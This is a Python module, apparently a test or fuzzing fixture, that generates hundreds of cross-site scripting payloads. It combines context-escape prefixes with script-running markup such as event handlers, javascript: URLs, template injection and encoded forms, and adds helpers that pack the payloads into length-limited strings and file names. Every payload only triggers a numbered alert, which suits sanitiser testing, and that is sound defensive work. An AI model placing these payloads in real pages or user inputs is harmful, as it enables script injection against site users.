"""Markup that tries to run a script, composed of a way out of the text and a thing that runs."""

from collections.abc import Iterator
from itertools import product
from typing import Final

_WAYS_OUT: Final = (
    *("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>"),
    *("</a>", "`>", "</option></select>", "\\'>", "</pre></code>"),
)
_RUNNING: Final = (
    "<script>alert({n})</script>",
    "<ScRiPt/x>alert({n})</sCrIpT>",
    "<img src=x onerror=alert({n})>",
    '<img/src="x"/onerror="alert({n})">',
    "<svg onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<svg><animate onbegin=alert({n}) attributeName=x>",
    "<details open ontoggle=alert({n})>",
    "<input autofocus onfocus=alert({n})>",
    "<select autofocus onfocus=alert({n})>",
    "<body onload=alert({n})>",
    "<video><source onerror=alert({n})></video>",
    "<audio src=x onerror=alert({n})>",
    "<iframe srcdoc='<script>alert({n})</script>'>",
    "<iframe src=javascript:alert({n})>",
    "<object data=javascript:alert({n})>",
    "<embed src=javascript:alert({n})>",
    "<math><mtext><img src onerror=alert({n})>",
    "<marquee onstart=alert({n})>",
    "<a href=javascript:alert({n})>x</a>",
    "<a href='java\tscript:alert({n})'>x</a>",
    "<form action=javascript:alert({n})><button>",
    "<meta http-equiv=refresh content='0;url=javascript:alert({n})'>",
    "<base href=javascript:alert({n})//>",
    "<style>@import 'x:{n}';</style>",
    "<link rel=stylesheet href=x:{n}>",
    "<p style=animation-name:x onanimationstart=alert({n})>",
    '" onmouseover=alert({n}) x="',
    "' autofocus onfocus=alert({n}) x='",
    "{{{{constructor.constructor('alert({n})')()}}}}",
    "${{alert({n})}}",
    "&lt;img src=x onerror=alert({n})&gt;",
    "&#60;script&#62;alert({n})&#60;/script&#62;",
    "%3Cscript%3Ealert({n})%3C/script%3E",
    "[x](javascript:alert({n}))",
    "[x](JaVaScRiPt&colon;alert({n}))",
    "<javascript:alert({n})>",
    '![x](x"onerror="alert({n}))',
    "[x](data:text/html,<script>alert({n})</script>)",
)
PAYLOADS: Final = tuple(
    way + thing.format(n=number) for number, (way, thing) in enumerate(product(_WAYS_OUT, _RUNNING))
)


def packed(payloads: tuple[str, ...], most: int, between: str = " ") -> Iterator[str]:
    """Join payloads into texts of at most `most` characters."""
    text = ""
    for payload in payloads:
        if text and len(text) + len(between) + len(payload) > most:
            yield text
            text = ""
        text = f"{text}{between}{payload}" if text else payload
    yield text


def as_names() -> tuple[str, ...]:
    """Return them as names of files may be: no slash, no control character, no trailing dot."""
    plain = (p.replace("/", "\u2215").replace("\\", "").replace("\t", " ") for p in PAYLOADS)
    return tuple(f"{payload}x" for payload in plain)
